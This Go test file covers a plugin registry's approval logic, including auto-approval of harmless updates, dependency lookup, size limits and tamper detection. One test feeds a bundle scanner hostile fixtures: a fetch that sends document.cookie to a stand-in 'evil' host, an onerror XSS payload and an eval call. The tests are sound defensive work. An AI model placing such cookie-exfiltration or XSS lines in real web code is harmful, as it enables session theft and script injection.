package registry

import (
	"fmt"
	"maps"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/buildify/core/pkg/contract"
	"github.com/buildify/core/pkg/manifest"
)

func TestAnUpdateThatAsksForNothingNewIsApprovedByItself(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.publisher("crm")
	base := map[string]any{
		"scopes":      []any{map[string]any{"name": "rbac.check", "reason": "Shows what people may see."}},
		"permissions": []any{map[string]any{"code": "crm:a:read", "title": "Read"}, map[string]any{"code": "crm:a:write", "title": "Write", "risk": "high"}},
		"egress":      []string{"api.example.com", "*.cdn.example.com"},
		"hooks":       []any{map[string]any{"event": "installed"}},
		"backend":     map[string]any{"transport": "http", "base_url": "https://api.example.com/x"},
		"storage":     map[string]any{"quota_mb": 10},
	}
	p.members = base
	first := p.published("1.0.0", map[string]any{"license": "MIT"})
	require.Equal(t, []string{
		"scope rbac.check", "permission crm:a:write of risk high", "egress to api.example.com", "egress to *.cdn.example.com",
		"hook installed", "backend api.example.com", "storage of 10 MiB",
	}, first.Asks)
	require.False(t, first.Automatic)

	for i, c := range []struct {
		more map[string]any
		asks []string
	}{
		{map[string]any{"name": "Better"}, nil},
		{map[string]any{"scopes": []any{}, "egress": []string{"api.example.com", "img.cdn.example.com"}, "hooks": []any{}, "storage": map[string]any{"quota_mb": 9}}, nil},
		{map[string]any{"permissions": []any{map[string]any{"code": "crm:new:read", "title": "New"}}}, nil},
		{map[string]any{"permissions": []any{map[string]any{"code": "crm:a:read", "title": "Read", "risk": "medium"}}}, []string{"permission crm:a:read of risk medium, was low"}},
		{map[string]any{"permissions": []any{map[string]any{"code": "crm:new:read", "title": "Read", "risk": "critical"}}}, []string{"permission crm:new:read of risk critical"}},
		{map[string]any{"scopes": []any{map[string]any{"name": "audit.log", "reason": "Logs."}}}, []string{"scope audit.log"}},
		{map[string]any{"egress": []string{"api.example.com", "evil.example.com"}}, []string{"egress to evil.example.com"}},
		{map[string]any{"hooks": []any{map[string]any{"event": "uninstalled"}}}, []string{"hook uninstalled"}},
		{map[string]any{"backend": map[string]any{"transport": "nats"}}, []string{"backend nats"}},
		{map[string]any{"backend": map[string]any{"transport": "http", "base_url": "https://img.cdn.example.com"}}, []string{"backend img.cdn.example.com"}},
		{map[string]any{"backend": map[string]any{"transport": "none"}}, nil},
		{map[string]any{"storage": map[string]any{"quota_mb": 11}}, []string{"storage of 11 MiB"}},
		{map[string]any{"slots": []any{map[string]any{"slot": "core.user.tabs", "entry": "a.js"}}}, []string{"slot core.user.tabs"}},
	} {
		more := map[string]any{"license": "MIT"}
		maps.Copy(more, c.more)
		version := fmt.Sprintf("1.0.%d", i+1)
		p.put(version, more)
		v := p.submit(version)
		require.ElementsMatch(t, c.asks, v.Asks, "%v %+v", c.more, v.Findings)
		require.Equal(t, len(c.asks) == 0, v.Automatic, "%v %+v", c.more, v.Findings)
		require.Equal(t, map[bool]string{true: approved, false: submitted}[len(c.asks) == 0], v.State)
	}

	// Not when there is something to look at, and not while it is suspended.
	old := p.which("0.9.0")
	p.put("0.9.0", nil)
	v, err := w.SubmitVersion(as(t, p.tenant), old)
	require.NoError(t, err)
	require.Equal(t, []string{"version /version"}, without(codes(v.Findings, "warning"), "license"))
	require.Equal(t, submitted, v.State, "nothing lower was published")
	p.put("1.1.0", map[string]any{"requires": []any{map[string]any{"module": "ghost", "range": "^1"}}})
	v = p.submit("1.1.0")
	require.Equal(t, []string{"requires /requires/0"}, without(codes(v.Findings, "warning"), "license"))
	require.Equal(t, submitted, v.State)
	_, err = w.SuspendModule(asPlatform(t), &contract.SuspendModuleRequest{ModuleName: "crm", Reason: "x"})
	require.NoError(t, err)
	p.put("1.2.0", nil)
	require.Equal(t, submitted, p.submit("1.2.0").State)
	_, err = w.SuspendModule(asPlatform(t), &contract.SuspendModuleRequest{ModuleName: "crm"})
	require.NoError(t, err)
	_, err = w.SuspendVersion(asPlatform(t), &contract.SuspendVersionRequest{ModuleName: "crm", Version: "1.0.0", Reason: "x"})
	require.NoError(t, err)
	p.put("1.3.0", nil)
	require.Equal(t, submitted, p.submit("1.3.0").State, "the version before it is bad")
}

func without(all []string, word string) (rest []string) {
	for _, one := range all {
		if !strings.Contains(one, word) {
			rest = append(rest, one)
		}
	}
	return rest
}

func TestARequirementIsLookedUpInTheRegistry(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.publisher("ledger").published("1.4.0", nil)
	w.publisher("drafts").put("1.0.0", nil)
	p := w.publisher("crm")
	need := func(module, of string, optional bool) map[string]any {
		return map[string]any{"module": module, "range": of, "optional": optional}
	}
	p.put("1.0.0", map[string]any{"requires": []any{
		need("ledger", "^1.2", false), need("drafts", "^1", false), need("ghost", "*", true), need("ledger2", ">=1", false),
	}})
	v := p.submit("1.0.0")
	require.Equal(t, submitted, v.State)
	require.Equal(t, []string{"requires /requires/1", "requires /requires/3"}, codes(v.Findings, "warning"))
}

func TestTheCoreMustBeOneThatTheModuleRunsOn(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.publisher("crm")
	p.put("1.0.0", map[string]any{"compat": map[string]any{"core": "^2"}})
	v := p.submit("1.0.0")
	require.Equal(t, submitted, v.State)
	require.Contains(t, codes(v.Findings, "info"), "compat /compat/core", "a development build takes all, and says so")
	w.Core = "1.4.0"
	p.put("1.1.0", map[string]any{"compat": map[string]any{"core": "^2"}})
	v = p.submit("1.1.0")
	require.Equal(t, draft, v.State)
	require.Contains(t, codes(v.Findings, "error"), "compat /compat/core")
}

func TestABundleThatIsTooLargeIsNotSubmitted(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.publisher("crm")
	files := []map[string]any{}
	for i := range 5 {
		files = append(files, map[string]any{"path": fmt.Sprintf("f%d.png", i), "sha384": integrity(fmt.Sprint(i)), "size": manifest.MaxFileSize})
	}
	p.put("1.0.0", map[string]any{"bundle": map[string]any{"entry": "f0.png", "files": files}})
	v := p.submit("1.0.0")
	require.Equal(t, draft, v.State)
	require.Contains(t, codes(v.Findings, "error"), "too_large /bundle/files")
}

// What a hostile publisher might put into a bundle, and what a careless one.
func TestABundleIsLookedInto(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.publisher("crm")
	p.members["egress"] = []string{"api.example.com", "never.example.com"}
	files := map[string]string{
		"main.js": "import './b.js'\n// fine\nconst x = eval ('1')\nfetch('https://api.example.com/x')\n",
		"b.js":    "fetch(`https://evil.example.net/steal?c=${document.cookie}`)\n",
		"p.html":  "<!doctype html>\n<p>Hello</p>\n<img src=x onerror=alert(1)>\n",
	}
	for _, content := range files {
		p.put("1.0.0", bundle("main.js", files))
		p.upload(content)
	}
	v := p.submit("1.0.0")
	require.Equal(t, draft, v.State)
	lines := map[string]bool{}
	for _, f := range v.Findings {
		if f.Severity == "error" {
			lines[fmt.Sprintf("%s %s:%d", f.Code, f.Path, f.Line)] = true
		}
	}
	require.Equal(t, map[string]bool{
		"forbidden_pattern main.js:3": true, "forbidden_pattern b.js:1": true, "egress b.js:1": true, "forbidden_pattern p.html:3": true,
	}, lines)
	require.Contains(t, codes(v.Findings, "info"), "egress /egress")
	_, err := w.asset("crm", "1.0.0", "main.js", 0)
	requireRefused(t, contract.NotFound, "", err)
}

// The bytes are checked again when a version is submitted.
func TestBytesThatChangedInTheDatabaseAreNotSubmitted(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.publisher("crm")
	p.put("1.0.0", bundle("a.js", map[string]string{"a.js": "good"}))
	p.upload("good")
	w.exec("UPDATE tenant.asset_parts SET data = 'evil'")
	v := p.submit("1.0.0")
	require.Equal(t, draft, v.State)
	require.Equal(t, []string{"hash /bundle/files/0"}, codes(v.Findings, "error"))
}
